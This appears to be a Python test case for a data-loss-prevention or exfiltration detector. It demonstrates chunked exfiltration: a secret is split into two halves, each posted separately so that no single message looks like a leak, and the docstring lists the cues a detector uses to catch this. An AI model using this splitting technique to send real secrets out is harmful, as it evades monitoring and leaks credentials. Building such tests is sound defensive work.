#!/usr/bin/python3
"""
Trick: Sends the halves of a secret over two connections, each too short to be recognised alone.
Known from: chunked exfiltration; data loss prevention looks at one message at a time.
First: the sinkhole's record of both streams, joined by destination
Second: read-then-sent, where the value came from a file
"""

from way_out import post, secret

value = secret()
post(b"part=" + value[:15])
post(b"part=" + value[15:])
print("performed")
